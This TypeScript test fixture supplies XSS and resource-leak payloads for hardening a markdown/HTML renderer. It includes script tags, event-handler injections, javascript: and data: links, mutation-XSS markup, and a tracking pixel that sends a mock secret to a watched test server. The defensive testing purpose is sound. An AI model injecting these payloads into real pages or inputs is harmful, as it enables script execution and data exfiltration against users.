/**
 * Hostile text for the hardening tests: markdown, HTML, SVG, data: and javascript: links and
 * remote resources, each of which would run script or send a request if the page rendered it
 * carelessly. `base` is a server the test watches: any request reaching it is a leak. Every
 * script here sets window.__pwned, so a test can tell whether one ran.
 */
export function hostileCorpus(base: string): string {
  return [
    '## Hostile corpus',
    '<script>window.__pwned = "script"</script>',
    `<img src="${base}/html-img" onerror="window.__pwned = 'onerror'">`,
    `![tracking pixel](${base}/leak.png?secret=the-users-secret)`,
    `![svg](data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"/>').toString('base64')})`,
    '<svg onload="window.__pwned = \'svg\'"><circle r="1"/></svg>',
    `<iframe src="${base}/frame"></iframe>`,
    '<iframe srcdoc="<script>parent.__pwned = \'srcdoc\'</script>"></iframe>',
    "[a javascript link](javascript:window.__pwned='js-link')",
    '[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<a href="javascript:window.__pwned = \'a\'">an HTML link</a>',
    `<form action="${base}/form"><button>go</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${base}/meta">`,
    `<link rel="stylesheet" href="${base}/style.css">`,
    `<style>@import url(${base}/import.css); body { background: url(${base}/bg.png) }</style>`,
    `<object data="${base}/object"></object><embed src="${base}/embed">`,
    `<base href="${base}/">`,
    `<video src="${base}/video.mp4" autoplay></video><audio src="${base}/audio.mp3" autoplay></audio>`,
    '<details open ontoggle="window.__pwned = \'toggle\'">details</details>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = \'mxss\'">',
    `[reference link][ref]\n\n[ref]: javascript:window.__pwned='ref'`,
    `<img src=x onerror=window.__pwned=1>`,
    `A plain link the user may click: [the source](${base}/clicked)`,
  ].join('\n\n');
}

/** A short hostile string for names and titles. */
export const HOSTILE_NAME = '<img src=x onerror="window.__pwned=\'name\'"><script>window.__pwned=1</script>';

/** A hostile file name (no slash: a file name cannot carry one). */
export const HOSTILE_FILE_NAME = `<img src=x onerror="window.__pwned='file'"><svg onload=alert(1)>.txt`;
